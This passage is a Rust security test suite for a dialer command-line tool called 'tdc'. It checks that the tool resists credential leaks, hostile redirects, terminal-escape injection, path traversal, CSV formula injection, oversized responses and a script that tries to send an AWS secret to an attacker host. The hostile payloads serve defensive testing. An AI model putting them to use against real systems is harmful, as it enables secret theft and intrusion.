//! What tdc promises when a server, a config file or a shared script means harm, each case
//! driven through the real binary against a loopback server that behaves like the attacker.

use crate::common;

use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use axum::body::Body;
use axum::extract::{Request, State};
use axum::http::StatusCode;
use axum::response::{IntoResponse, Response};
use axum::Router;
use common::{output, tdc, tdc_on, temp_dir, write_config, Sandbox};

/// Every request a stub saw: `METHOD URI authorization-header body`.
pub(crate) type Seen = Arc<Mutex<Vec<String>>>;

/// A stub that records each request and answers with `answer`.
pub(crate) fn recording_stub(
    answer: impl Fn(&str) -> Response + Clone + Send + Sync + 'static,
) -> (String, Seen, tokio::runtime::Runtime) {
    let seen = Seen::default();
    let app = Router::new()
        .fallback(move |State(seen): State<Seen>, request: Request| {
            let answer = answer.clone();
            async move {
                let (parts, body) = request.into_parts();
                let body = axum::body::to_bytes(body, 1 << 20)
                    .await
                    .unwrap_or_default();
                let auth = parts
                    .headers
                    .get("authorization")
                    .and_then(|v| v.to_str().ok())
                    .unwrap_or("-")
                    .to_string();
                let line = format!(
                    "{} {} {auth} {}",
                    parts.method,
                    parts.uri,
                    String::from_utf8_lossy(&body)
                );
                seen.lock().unwrap().push(line);
                answer(&parts.uri.to_string())
            }
        })
        .with_state(seen.clone());
    let (url, runtime) = common::serve(app);
    (url, seen, runtime)
}

fn json(body: &'static str) -> Response {
    ([("content-type", "application/json")], body).into_response()
}

fn basic(user: &str, password: &str) -> String {
    use base64::Engine;
    let token = base64::engine::general_purpose::STANDARD.encode(format!("{user}:{password}"));
    format!("Basic {token}")
}

#[test]
fn a_profiles_password_goes_to_its_own_host_only() {
    let (attacker, seen, _runtime) = recording_stub(|_| json(r#"{"campaigns": []}"#));
    let home = temp_dir("bound-credentials");
    write_config(
        &home,
        "default_profile = \"prod\"\n[profiles.prod]\nurl = \"https://dialer.example\"\nuser = \"ops\"\npassword_env = \"PROD_PW\"\n",
    );
    let (code, _, stderr) = output(
        tdc(&home)
            .args(["--url", &attacker, "eval", "td.campaigns()"])
            .env("PROD_PW", "prod-secret-1"),
    );
    assert_ne!(code, 0, "there is no password for the other host: {stderr}");
    assert!(
        stderr.contains(&format!("no user or password for {attacker}/")),
        "{stderr}"
    );
    assert!(
        seen.lock().unwrap().is_empty(),
        "nothing reached the other host"
    );
    let (code, stdout, _) = output(
        tdc(&home)
            .args(["--url", &attacker, "config"])
            .env("PROD_PW", "prod-secret-1"),
    );
    assert_eq!(code, 0);
    assert!(stdout.contains("prod not used"), "{stdout}");
    assert!(!stdout.contains("prod-secret-1"));

    // Credentials given for that URL explicitly are used.
    let (code, _, stderr) = output(
        tdc(&home)
            .args([
                "--url",
                &attacker,
                "--user",
                "guest",
                "eval",
                "td.campaigns()",
            ])
            .env("TDC_PASSWORD", "guest-pw"),
    );
    assert_eq!(code, 0, "{stderr}");
    let seen = seen.lock().unwrap();
    assert!(seen[0].contains(&basic("guest", "guest-pw")), "{seen:?}");
    assert!(!seen
        .iter()
        .any(|l| l.contains(&basic("ops", "prod-secret-1"))));
}

#[test]
fn a_password_inside_a_url_is_refused_and_never_printed() {
    let home = temp_dir("url-password");
    let (code, stdout, stderr) = output(tdc(&home).args([
        "--url",
        "https://ops:url-secret-9@dialer.example",
        "eval",
        "1",
    ]));
    assert_eq!(code, 2, "{stdout}");
    assert!(stderr.contains("ops:***@dialer.example"), "{stderr}");
    assert!(
        stderr.contains("password inside the URL is refused"),
        "{stderr}"
    );
    assert!(!stderr.contains("url-secret-9") && !stdout.contains("url-secret-9"));
}

#[test]
fn redirects_never_carry_credentials_or_writes_elsewhere() {
    let (elsewhere, elsewhere_seen, _other) = recording_stub(|_| json(r#"{"campaigns": []}"#));
    let target = elsewhere.clone();
    let (url, seen, _runtime) = recording_stub(move |uri| {
        let to = if uri.starts_with("/api/leads") {
            "/api/leads/again".to_string()
        } else {
            format!("{target}/api/campaigns/")
        };
        (StatusCode::TEMPORARY_REDIRECT, [("location", to)]).into_response()
    });
    let home = temp_dir("redirects");
    let run = |code: &str| {
        output(
            tdc(&home)
                .args(["--url", &url, "--user", "ops", "-v", "--yes", "eval", code])
                .env("TDC_PASSWORD", "redirect-secret"),
        )
    };
    let (code, _, stderr) = run("td.campaigns()");
    assert_eq!(code, 1);
    assert!(stderr.contains("redirected to another host"), "{stderr}");
    assert!(
        stderr.contains("tdc: < 307 GET /api/campaigns/limit/1000;0/: redirected to"),
        "{stderr}"
    );
    assert!(elsewhere_seen.lock().unwrap().is_empty(), "not followed");

    let (code, _, stderr) = run(r#"td.add_leads([#{ phone: "447700000001" }])"#);
    assert_eq!(code, 1);
    assert!(stderr.contains("redirected this write"), "{stderr}");
    let seen = seen.lock().unwrap();
    assert!(
        !seen.iter().any(|l| l.starts_with("POST /api/leads/again")),
        "the body was not re-sent: {seen:?}"
    );
}

#[test]
fn raw_calls_pass_the_same_guards_as_typed_ones() {
    let sandbox = Sandbox::start(&[]);
    let home = temp_dir("raw-guards");
    write_config(
        &home,
        &format!(
            "[profiles.ro]\nurl = \"{}\"\nuser = \"sandbox\"\npassword_env = \"PW\"\nread_only = true\n[profiles.rw]\nurl = \"{}\"\nuser = \"sandbox\"\npassword_env = \"PW\"\n",
            sandbox.url, sandbox.url
        ),
    );
    let eval = |profile: &str, extra: &[&str], code: &str| {
        output(
            tdc(&home)
                .args(["--profile", profile, "eval"])
                .args(extra)
                .arg(code)
                .env("PW", "sandbox"),
        )
    };
    let campaigns = || {
        let (_, stdout, _) = eval("rw", &[], "td.campaigns().len()");
        stdout.trim().to_string()
    };
    assert_eq!(campaigns(), "4");
    for code in [
        r#"td.get("/api/campaigns/clone", #{ campaign_id: 12 })"#,
        r#"td.put("/api/campaign-leads/mass-assign", #{ where: #{ id: [1] }, campaign_id: 13 })"#,
        r#"td.post("/api/leads", [#{ phone: "447700000002" }])"#,
    ] {
        let (status, _, stderr) = eval("ro", &[], code);
        assert_eq!(status, 1, "{code}");
        assert!(stderr.contains("read-only"), "{code}: {stderr}");
    }
    let (status, _, stderr) = eval(
        "rw",
        &["--dry-run"],
        r#"td.get("/api/campaigns/clone", #{ campaign_id: 12 })"#,
    );
    assert_eq!(status, 0, "{stderr}");
    assert!(
        stderr.contains("dry-run: GET /api/campaigns/clone"),
        "{stderr}"
    );
    assert_eq!(campaigns(), "4", "nothing was cloned");

    // A real write through the raw hatch is audited.
    let (status, _, stderr) = eval(
        "rw",
        &[],
        r#"td.put("/api/campaign-leads/mass-assign", #{ where: #{ id: [1] }, campaign_id: 13 })"#,
    );
    assert_eq!(status, 0, "{stderr}");
    let audit = std::fs::read_to_string(home.join(".local/state/tdc/audit.jsonl")).unwrap();
    assert!(
        audit.contains("\"PUT\"") && audit.contains("/api/campaign-leads/mass-assign"),
        "{audit}"
    );
}

#[test]
fn server_text_cannot_drive_the_terminal() {
    let (url, _seen, _runtime) = recording_stub(|_| {
        (
            StatusCode::UNPROCESSABLE_ENTITY,
            [("content-type", "application/json")],
            "{\"success\":false,\"message\":\"bad \\u001b]0;pwned\\u0007\\u001b[2J\\u001b]52;c;ZXZpbA==\\u0007 lead\"}",
        )
            .into_response()
    });
    let home = temp_dir("escapes");
    let (code, stdout, stderr) = output(
        tdc(&home)
            .args(["--url", &url, "--user", "ops", "--yes", "eval"])
            .arg(r#"td.add_leads([#{ phone: "447700000003" }])"#)
            .env("TDC_PASSWORD", "x"),
    );
    assert_eq!(code, 1);
    assert!(
        !stderr.contains('\u{1b}') && !stdout.contains('\u{1b}'),
        "{stderr:?}"
    );
    assert!(
        stderr.contains("\\e]0;pwned"),
        "shown, not obeyed: {stderr}"
    );
    // A record's value in a table is shown the same way.
    let (code, stdout, _) = output(tdc(&home).args([
        "--sandbox",
        "eval",
        "print(table([#{ name: \"a\\x1b]52;c;ZXZpbA==\\x07b\" }]))",
    ]));
    assert_eq!(code, 0);
    assert!(!stdout.contains('\u{1b}'), "{stdout:?}");
}

#[test]
fn answers_cannot_push_memory_past_the_caps() {
    // An endless answer, and one that announces 10 GB.
    let app = Router::new().route(
        "/api/endless",
        axum::routing::get(|| async {
            let chunk = bytes_of_json();
            let stream =
                futures_util::stream::repeat_with(move || Ok::<_, std::io::Error>(chunk.clone()));
            Response::builder()
                .header("content-type", "application/json")
                .body(Body::from_stream(stream))
                .unwrap()
        }),
    );
    let (url, _runtime) = common::serve(app);
    // A server that announces 10 GB (hyper will not send such a lie, so a bare socket does).
    let liar = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let liar_url = format!("http://{}", liar.local_addr().unwrap());
    std::thread::spawn(move || {
        use std::io::{Read, Write};
        for stream in liar.incoming().flatten().take(4) {
            let mut stream = stream;
            let mut request = [0u8; 4096];
            let _ = stream.read(&mut request);
            let _ = stream.write_all(
                b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 10000000000\r\n\r\n{}",
            );
        }
    });
    let home = temp_dir("memory");
    write_config(
        &home,
        &format!(
            "[profiles.small]\nurl = \"{url}\"\nuser = \"ops\"\npassword_env = \"PW\"\nmax_response_mb = 4\n[profiles.liar]\nurl = \"{liar_url}\"\nuser = \"ops\"\npassword_env = \"PW\"\nmax_response_mb = 4\n"
        ),
    );
    let started = Instant::now();
    let (code, _, stderr) = output(
        tdc(&home)
            .args(["--profile", "small", "eval", "td.get(\"/api/endless\")"])
            .env("PW", "x"),
    );
    assert_eq!(code, 1);
    assert!(stderr.contains("larger than 4 MiB"), "{stderr}");
    assert!(started.elapsed() < Duration::from_secs(30));
    let (code, _, stderr) = output(
        tdc(&home)
            .args(["--profile", "liar", "eval", "td.get(\"/api/huge\")"])
            .env("PW", "x"),
    );
    assert_eq!(code, 1);
    assert!(stderr.contains("larger than 4 MiB"), "{stderr}");
}

fn bytes_of_json() -> axum::body::Bytes {
    axum::body::Bytes::from(format!("[{}", "1,".repeat(32 * 1024)))
}

#[test]
fn password_cmd_gives_one_line_in_time_and_tdc_config_does_not_run_it() {
    let (url, seen, _runtime) = recording_stub(|_| json(r#"{"campaigns": []}"#));
    let home = temp_dir("password-cmd");
    let marker = home.join("ran");
    let profile = |command: &str| {
        write_config(
            &home,
            &format!(
                "[profiles.p]\nurl = \"{url}\"\nuser = \"ops\"\npassword_cmd = \"{command}\"\npassword_cmd_timeout_s = 1\n"
            ),
        );
    };
    profile("printf 'first-line\\\\nsecond-line\\\\n'");
    let (code, _, stderr) = output(tdc(&home).args(["--profile", "p", "eval", "td.campaigns()"]));
    assert_eq!(code, 0, "{stderr}");
    assert!(seen.lock().unwrap()[0].contains(&basic("ops", "first-line")));

    profile("sleep 20");
    let started = Instant::now();
    let (code, _, stderr) = output(tdc(&home).args(["--profile", "p", "eval", "1"]));
    assert_eq!(code, 2);
    assert!(stderr.contains("did not finish within 1 s"), "{stderr}");
    assert!(started.elapsed() < Duration::from_secs(10));

    profile("true");
    let (code, _, stderr) = output(tdc(&home).args(["--profile", "p", "eval", "1"]));
    assert_eq!(code, 2);
    assert!(stderr.contains("printed no password"), "{stderr}");

    profile(&format!("touch {}", marker.display()));
    let (code, stdout, _) = output(tdc(&home).args(["--profile", "p", "config"]));
    assert_eq!(code, 0);
    assert!(stdout.contains("not run to show it"), "{stdout}");
    assert!(!marker.exists(), "tdc config ran password_cmd");
}

#[test]
fn config_files_others_can_write_are_refused() {
    let home = temp_dir("config-mode");
    let path = write_config(&home, "[profiles.p]\nurl = \"https://dialer.example\"\n");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o666)).unwrap();
        let (code, _, stderr) = output(tdc(&home).args(["config"]));
        assert_eq!(code, 2);
        assert!(stderr.contains("others can write to it"), "{stderr}");
    }
}

#[cfg(unix)]
fn mode_of(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

#[cfg(unix)]
#[test]
fn files_with_lead_data_are_private_whatever_existed_before() {
    use std::os::unix::fs::PermissionsExt;
    let sandbox = Sandbox::start(&[]);
    let home = temp_dir("private-files");
    let audit = home.join(".local/state/tdc/audit.jsonl");
    std::fs::create_dir_all(audit.parent().unwrap()).unwrap();
    std::fs::write(&audit, "").unwrap();
    std::fs::set_permissions(&audit, std::fs::Permissions::from_mode(0o644)).unwrap();
    let journal = home.join("import.journal");
    let allow = format!("--allow-write={}", home.display());
    let (code, _, stderr) = output(tdc_on(&sandbox, &home).args([
        "--yes",
        &allow,
        "eval",
        &format!(
            "td.add_leads([#{{ phone: \"447700000004\", original_identifier: \"p-1\" }}], #{{ journal: \"{}\" }}).len()",
            journal.display()
        ),
    ]));
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(mode_of(&audit), 0o600);

    // The sandbox's state file, and a spreadsheet-safe export.
    let state = home.join("state.json");
    let twin = Sandbox::start(&["--state", state.to_str().unwrap()]);
    let csv = home.join("leads.csv");
    let (code, _, stderr) = output(tdc_on(&twin, &home).args([
        "--yes",
        &allow,
        "eval",
        &format!(
            "td.add_leads([#{{ phone: \"447700000005\", first_name: \"=HYPERLINK(1)\" }}]); write_csv([#{{ a: \"=1+2\", b: -5, c: \"@x\" }}], \"{}\", #{{ excel_safe: true }})",
            csv.display()
        ),
    ]));
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(mode_of(&state), 0o600);
    assert_eq!(
        std::fs::read_to_string(&csv).unwrap(),
        "a,b,c\n'=1+2,-5,'@x\n"
    );
}

#[test]
fn an_excel_safe_csv_makes_its_header_row_safe_too() {
    // Column names come from data (a CSV someone sent, a server's custom field names), so
    // a header cell can carry a formula as well as any value.
    let home = temp_dir("excel-safe-header");
    let sent = home.join("sent.csv");
    std::fs::write(&sent, "=HYPERLINK(1),name\n1,@SUM(A1)\n").unwrap();
    let csv = home.join("safe.csv");
    let (code, _, stderr) = output(tdc(&home).args([
        "--sandbox",
        &format!("--allow-read={}", home.display()),
        &format!("--allow-write={}", home.display()),
        "eval",
        &format!(
            "let rows = read_csv(\"{}\"); rows.push(#{{ \"+cmd\": \"-x\" }}); write_csv(rows, \"{}\", #{{ excel_safe: true }})",
            sent.display(),
            csv.display()
        ),
    ]));
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(
        std::fs::read_to_string(&csv).unwrap(),
        "'=HYPERLINK(1),name,'+cmd\n1,'@SUM(A1),\n,,'-x\n"
    );
}

#[test]
fn the_twin_drops_half_sent_requests_and_keeps_serving() {
    use std::io::Write;
    let sandbox = Sandbox::start(&["--leads", "100", "--cdrs", "100"]);
    let address = sandbox.url.trim_start_matches("http://").to_string();
    let mut held: Vec<std::net::TcpStream> = (0..200)
        .map(|_| {
            let mut stream = std::net::TcpStream::connect(&address).unwrap();
            stream
                .write_all(b"GET /api/cdrs HTTP/1.1\r\nHost: x\r\n")
                .unwrap();
            stream
        })
        .collect();
    let home = temp_dir("half-open");
    let (code, stdout, stderr) =
        output(tdc_on(&sandbox, &home).args(["eval", "td.campaigns().len()"]));
    assert_eq!((code, stdout.trim()), (0, "4"), "still serving: {stderr}");
    // Within the header time-out (10 s) every half-sent request's connection is closed: each
    // is waited on until it closes, or until the time-out and some slack have passed.
    let deadline = std::time::Instant::now() + Duration::from_secs(15);
    let closed = held
        .iter_mut()
        .filter(|stream| is_closed(stream, deadline))
        .count();
    assert_eq!(closed, 200);
}

/// Whether the twin closed `stream` by `deadline`: end of file, an error answer (followed by
/// the close), or a reset (a connection closed with data of the client's unread).
fn is_closed(mut stream: &std::net::TcpStream, deadline: std::time::Instant) -> bool {
    use std::io::Read;
    let left = deadline.saturating_duration_since(std::time::Instant::now());
    stream
        .set_read_timeout(Some(left.max(Duration::from_millis(200))))
        .unwrap();
    let mut answer = Vec::new();
    match stream.read_to_end(&mut answer) {
        Ok(_) => true,
        Err(e) => !matches!(
            e.kind(),
            std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
        ),
    }
}

#[test]
fn the_twin_refuses_a_public_address_unless_asked() {
    let home = temp_dir("public");
    let (code, _, stderr) = output(tdc(&home).args(["sandbox", "--addr", "0.0.0.0:0"]));
    assert_eq!(code, 2);
    assert!(stderr.contains("pass --public"), "{stderr}");
}

#[test]
fn paths_in_a_profile_start_at_home_or_beside_the_config_file() {
    let home = temp_dir("profile-paths");
    let work = temp_dir("profile-paths-work");
    write_config(
        &home,
        "default_profile = \"twin\"\n[profiles.twin]\nallow_read = [\"~/shared\", \"../../elsewhere\"]\n",
    );
    for (folder, value) in [(home.join("shared"), 1), (home.join("elsewhere"), 2)] {
        std::fs::create_dir_all(&folder).unwrap();
        std::fs::write(folder.join("v.json"), value.to_string()).unwrap();
    }
    let (code, stdout, stderr) = output(tdc(&home).current_dir(&work).args([
        "--sandbox",
        "eval",
        &format!(
            "[read_json(\"{}\"), read_json(\"{}\")]",
            home.join("shared/v.json").display(),
            home.join("elsewhere/v.json").display()
        ),
    ]));
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(stdout.split_whitespace().collect::<String>(), "[1,2]");
    let (_, shown, _) = output(tdc(&home).arg("config"));
    assert!(
        shown.contains(&format!("{}", home.join("shared").display())),
        "{shown}"
    );
    // A folder beside the file is tdc's own: said when the file is read.
    write_config(&home, "[profiles.twin]\nallow_write = [\"exports\"]\n");
    let (code, _, stderr) = output(
        tdc(&home)
            .current_dir(&work)
            .args(["--sandbox", "eval", "1"]),
    );
    assert_eq!(code, 2);
    assert!(
        stderr.contains("profile 'twin': allow_write:") && stderr.contains("~/data"),
        "{stderr}"
    );
}

#[test]
fn scripts_have_bounded_powers() {
    let (attacker, seen, _runtime) = recording_stub(|_| json(r#"{"campaigns": []}"#));
    let home = temp_dir("powers");
    let config = write_config(&home, "[profiles.p]\nurl = \"https://dialer.example\"\n");
    let outside = temp_dir("powers-outside");
    let eval = |extra: &[&str], code: &str| {
        output(
            tdc(&home)
                .args(["--sandbox", "eval"])
                .args(extra)
                .arg(code)
                .env("AWS_SECRET_ACCESS_KEY", "aws-secret-7"),
        )
    };
    // tdc's own files, whatever is allowed.
    let read_config = format!("read_csv(\"{}\")", config.display());
    for extra in [&[][..], &["--allow-all"][..]] {
        let (code, _, stderr) = eval(extra, &read_config);
        assert_eq!(code, 1);
        assert!(stderr.contains("one of tdc's own files"), "{stderr}");
    }
    // Files outside the script's folder and the working directory.
    let target = outside.join("out.csv");
    let write = format!("write_csv([#{{ a: 1 }}], \"{}\")", target.display());
    let (code, _, stderr) = eval(&[], &write);
    assert_eq!(code, 1);
    assert!(
        stderr.contains(&format!(
            "allow it with --allow-write {}",
            outside.canonicalize().unwrap().display()
        )),
        "{stderr}"
    );
    assert!(!target.exists());
    let allow = format!("--allow-write={}", outside.display());
    let (code, _, stderr) = eval(&[&allow], &write);
    assert_eq!(code, 0, "{stderr}");
    assert!(target.exists());
    // A file allowed by its own name, before it exists and after; its neighbours stay out.
    let named = outside.join("named.csv");
    let allow_named = format!("--allow-write={}", named.display());
    let write_named = format!("write_csv([#{{ a: 2 }}], \"{}\")", named.display());
    for _ in 0..2 {
        let (code, _, stderr) = eval(&[&allow_named], &write_named);
        assert_eq!(code, 0, "{stderr}");
    }
    assert_eq!(std::fs::read_to_string(&named).unwrap(), "a\n2\n");
    let (code, _, stderr) = eval(&[&allow_named], &write);
    assert_eq!(code, 1);
    assert!(stderr.contains("is not allowed"), "{stderr}");
    let allow_read = format!("--allow-read={}", named.display());
    let read_named = format!("read_csv(\"{}\")[0].a", named.display());
    let (code, stdout, stderr) = eval(&[&allow_read], &read_named);
    assert_eq!((code, stdout.trim()), (0, "\"2\""), "{stderr}");
    // The environment.
    let (code, _, stderr) = eval(&[], "env(\"HOME\")");
    assert_eq!(code, 1);
    assert!(
        stderr.contains("allow it with --allow-env HOME"),
        "{stderr}"
    );
    let (code, stdout, _) = eval(&["--allow-env=HOME"], "env(\"HOME\")");
    assert_eq!(code, 0);
    assert!(stdout.contains("tdc-test"), "{stdout}");
    // A secret sent to a host of the script's choosing.
    let steal = format!(
        "dialer(#{{ url: \"{attacker}\", user: \"x\", password_env: \"AWS_SECRET_ACCESS_KEY\" }}).campaigns()"
    );
    let (code, _, stderr) = eval(&[], &steal);
    assert_eq!(code, 1);
    assert!(stderr.contains("--allow-net 127.0.0.1"), "{stderr}");
    let (code, _, stderr) = eval(&["--allow-net=127.0.0.1"], &steal);
    assert_eq!(code, 1);
    assert!(
        stderr.contains("--allow-env AWS_SECRET_ACCESS_KEY"),
        "{stderr}"
    );
    assert!(!stderr.contains("aws-secret-7"));
    // A dialer without a user is refused before anything is sent, not answered 401.
    let nameless = format!(
        "dialer(#{{ url: \"{attacker}\", password_env: \"AWS_SECRET_ACCESS_KEY\" }}).campaigns()"
    );
    let allowed = ["--allow-net=127.0.0.1", "--allow-env=AWS_SECRET_ACCESS_KEY"];
    let (code, _, stderr) = eval(&allowed, &nameless);
    assert_eq!(code, 1);
    assert!(
        stderr.contains(&format!("no user for {attacker}/")),
        "{stderr}"
    );
    assert!(
        seen.lock().unwrap().is_empty(),
        "nothing reached the attacker"
    );
}

/// A profile `p` on `url` for user `ops`, password from `$PW`, with `extra` settings.
fn profile_on(home: &Path, url: &str, extra: &str) {
    write_config(
        home,
        &format!("[profiles.p]\nurl = \"{url}\"\nuser = \"ops\"\npassword_env = \"PW\"\n{extra}"),
    );
}

#[test]
fn raw_paths_the_url_parser_would_rewrite_are_refused_before_anything_is_sent() {
    let (url, seen, _runtime) = recording_stub(|_| json(r#"{"campaign_id": 99}"#));
    let home = temp_dir("raw-path-tricks");
    profile_on(&home, &url, "read_only = true\n");
    // Each reaches the dialer as GET /api/campaigns/clone once the parser is done with it.
    for (path, problem) in [
        (r"/api/x/../campaigns/clone", "the dot segment '..'"),
        (r"/api/campaigns/./clone", "the dot segment '.'"),
        (r"/api/x/%2e%2e/campaigns/clone", "the dot segment '%2e%2e'"),
        (r"/api/x/%2E%2e/campaigns/clone", "the dot segment '%2E%2e'"),
        (r"/api/x/.%2E/campaigns/clone", "the dot segment '.%2E'"),
        (r"/api/campaigns/%2e/clone", "the dot segment '%2e'"),
        (r"/api/campaigns/cl\tone", "a control character (\\t)"),
        (r"/api/campaigns/clone\r", "a control character (\\r)"),
        (r"/api/campaigns\n/clone", "a control character (\\n)"),
        (r"/api/campaigns/clone\x7f", "a control character (\\x7f)"),
        (r"/api\\campaigns\\clone", "a backslash"),
    ] {
        let code = format!(r#"td.get("{path}", #{{ campaign_id: 12 }})"#);
        let (status, stdout, stderr) = output(
            tdc(&home)
                .args(["--profile", "p", "eval", &code])
                .env("PW", "pw"),
        );
        assert_eq!(status, 1, "{path}: {stdout}");
        assert!(stderr.contains("td.get: the path '"), "{path}: {stderr}");
        assert!(
            stderr.contains(&format!("holds {problem}")),
            "{path}: {stderr}"
        );
        assert_eq!(
            stderr.matches("holds").count(),
            1,
            "one error line: {stderr}"
        );
    }
    // A raw POST whose path the parser would move elsewhere, on a writable profile.
    profile_on(&home, &url, "");
    let (status, _, stderr) = output(
        tdc(&home)
            .args(["--profile", "p", "eval"])
            .arg(r#"td.post("/api/nothing/../leads", [#{ phone: "447700000006" }])"#)
            .env("PW", "pw"),
    );
    assert_eq!(status, 1);
    assert!(
        stderr.contains("td.post: the path '/api/nothing/../leads' holds the dot segment '..'"),
        "{stderr}"
    );
    assert!(
        seen.lock().unwrap().is_empty(),
        "{:?}",
        seen.lock().unwrap()
    );
    assert!(
        !home.join(".local/state/tdc/audit.jsonl").exists(),
        "nothing sent, nothing audited"
    );
}

#[test]
fn the_audit_line_and_the_guards_name_the_path_that_was_sent() {
    let (url, seen, _runtime) = recording_stub(|_| json(r#"{"campaign_id": 99}"#));
    let home = temp_dir("raw-path-sent");
    profile_on(&home, &url, "");
    let eval = |extra: &[&str], code: &str| {
        output(
            tdc(&home)
                .args(["--profile", "p", "eval"])
                .args(extra)
                .arg(code)
                .env("PW", "pw"),
        )
    };
    let (status, _, stderr) = eval(
        &[],
        r##"td.post("/api/leads?note=a b&tag=\"q\"#here", [#{ phone: "447700000007" }])"##,
    );
    assert_eq!(status, 0, "{stderr}");
    let sent = seen.lock().unwrap()[0].clone();
    assert!(
        sent.starts_with("POST /api/leads?note=a%20b&tag=%22q%22 "),
        "{sent}"
    );
    let audit = std::fs::read_to_string(home.join(".local/state/tdc/audit.jsonl")).unwrap();
    let line: serde_json::Value = serde_json::from_str(audit.lines().last().unwrap()).unwrap();
    assert_eq!(line["path"], "/api/leads?note=a%20b&tag=%22q%22", "{audit}");

    // A GET the dialer may read as the clone, however it is spelled, is a write: shown
    // under --dry-run as it would be sent, and refused on a read-only profile.
    let (status, _, stderr) = eval(&["--dry-run"], r#"td.get("/api//campaigns/%63lone ")"#);
    assert_eq!(status, 0, "{stderr}");
    assert!(
        stderr.contains("dry-run: GET /api//campaigns/%63lone null"),
        "{stderr}"
    );
    profile_on(&home, &url, "read_only = true\n");
    let (status, _, stderr) = eval(&[], r#"td.get("/API/Campaigns/Clone/")"#);
    assert_eq!(status, 1);
    assert!(stderr.contains("read-only"), "{stderr}");
    assert_eq!(seen.lock().unwrap().len(), 1, "{:?}", seen.lock().unwrap());
}

#[test]
fn password_cmd_ends_within_its_time_out_whatever_holds_the_pipe() {
    let (url, seen, _runtime) = recording_stub(|_| json(r#"{"campaigns": []}"#));
    let home = temp_dir("password-cmd-pipe");
    let marker = home.join("still-running");
    let profile = |command: &str| {
        write_config(
            &home,
            &format!(
                "[profiles.p]\nurl = \"{url}\"\nuser = \"ops\"\npassword_cmd = \"{command}\"\npassword_cmd_timeout_s = 2\n"
            ),
        );
    };
    // A background child keeps the pipe open; the first line is in and the command exited.
    // (tdc's stderr goes to a file: the child holds the stderr it inherited, and a pipe would
    // keep this test waiting for it, not for tdc.)
    profile("sleep 40 & echo pw");
    let log = home.join("stderr.txt");
    let started = Instant::now();
    let status = tdc(&home)
        .args(["--profile", "p", "eval", "td.campaigns()"])
        .stdout(std::process::Stdio::null())
        .stderr(std::fs::File::create(&log).unwrap())
        .status()
        .unwrap();
    let took = started.elapsed();
    let stderr = std::fs::read_to_string(&log).unwrap();
    assert_eq!(status.code(), Some(0), "{stderr}");
    assert!(took < Duration::from_secs(10), "{took:?}");
    assert!(seen.lock().unwrap()[0].contains(&basic("ops", "pw")));

    // No whole line before the time-out: reading stops there and the group is killed.
    let pid_file = home.join("background.pid");
    profile(&format!(
        "sh -c 'echo $$ > {}; sleep 4; touch {}' & printf pw",
        pid_file.display(),
        marker.display()
    ));
    let started = Instant::now();
    let (code, _, stderr) = output(tdc(&home).args(["--profile", "p", "eval", "1"]));
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("did not finish within 2 s"), "{stderr}");
    assert!(
        started.elapsed() < Duration::from_secs(4),
        "{:?}",
        started.elapsed()
    );
    // The background command is waited on until it is gone: stopped at once, or after its
    // 4 s with the marker written.
    let pid = std::fs::read_to_string(&pid_file).unwrap();
    let gone = || {
        std::fs::read_to_string(format!("/proc/{}/stat", pid.trim()))
            .map_or(true, |stat| stat.contains(") Z "))
    };
    let until = Instant::now() + Duration::from_secs(10);
    while !gone() && Instant::now() < until {
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(gone(), "the background command still runs");
    assert!(!marker.exists(), "the command's group was stopped");
}

#[test]
fn a_proxy_from_the_environment_never_sees_an_http_dialers_credentials() {
    let (url, seen, _runtime) = recording_stub(|_| json(r#"{"campaigns": []}"#));
    let (proxy, proxy_seen, _proxy_runtime) = recording_stub(|_| json(r#"{"campaigns": []}"#));
    let home = temp_dir("env-proxy");
    profile_on(&home, &url, "");
    let (code, _, stderr) = output(
        tdc(&home)
            .args(["--profile", "p", "eval", "td.campaigns().len()"])
            .env_remove("NO_PROXY")
            .env_remove("no_proxy")
            .env("http_proxy", &proxy)
            .env("HTTP_PROXY", &proxy)
            .env("ALL_PROXY", &proxy)
            .env("PW", "proxy-secret-5"),
    );
    assert_eq!(code, 0, "{stderr}");
    assert!(
        proxy_seen.lock().unwrap().is_empty(),
        "{:?}",
        proxy_seen.lock().unwrap()
    );
    assert!(seen.lock().unwrap()[0].contains(&basic("ops", "proxy-secret-5")));
}

#[test]
fn a_redirect_error_shows_no_password() {
    let (url, _seen, _runtime) = recording_stub(|_| {
        (
            StatusCode::FOUND,
            [(
                "location",
                "http://ops:stolen-pw-3@elsewhere.example/api/campaigns/",
            )],
        )
            .into_response()
    });
    let home = temp_dir("redirect-password");
    profile_on(&home, &url, "");
    for code in [
        "td.campaigns()",
        r#"try { td.campaigns() } catch (e) { print(e) }"#,
        r#"td.add_leads([#{ phone: "447700000008" }])"#,
    ] {
        let (_, stdout, stderr) = output(
            tdc(&home)
                .args(["--profile", "p", "-v", "eval", code])
                .env("PW", "pw"),
        );
        let shown = format!("{stdout}{stderr}");
        assert!(
            shown.contains("http://ops:***@elsewhere.example/"),
            "{shown}"
        );
        assert!(!shown.contains("stolen-pw-3"), "{code}: {shown}");
    }
}

#[test]
fn an_unwritable_audit_log_refuses_a_change_to_a_remote_dialer() {
    // An https dialer is reached through the environment's proxy: what the proxy is asked to
    // connect to shows whether the change went out.
    let (proxy, proxy_seen, _runtime) = recording_stub(|uri| {
        if uri.starts_with('/') {
            json(r#"{"campaigns": []}"#)
        } else {
            StatusCode::FORBIDDEN.into_response()
        }
    });
    let home = temp_dir("audit-unwritable");
    let blocked = home.join("state-is-a-file");
    std::fs::write(&blocked, "").unwrap();
    let assign = |state: &Path| {
        output(
            tdc(&home)
                .args(["--url", "https://dialer.example", "--user", "ops", "--yes"])
                .args(["eval", "td.assign([1], 12)"])
                .env_remove("NO_PROXY")
                .env_remove("no_proxy")
                .env("HTTPS_PROXY", &proxy)
                .env("XDG_STATE_HOME", state)
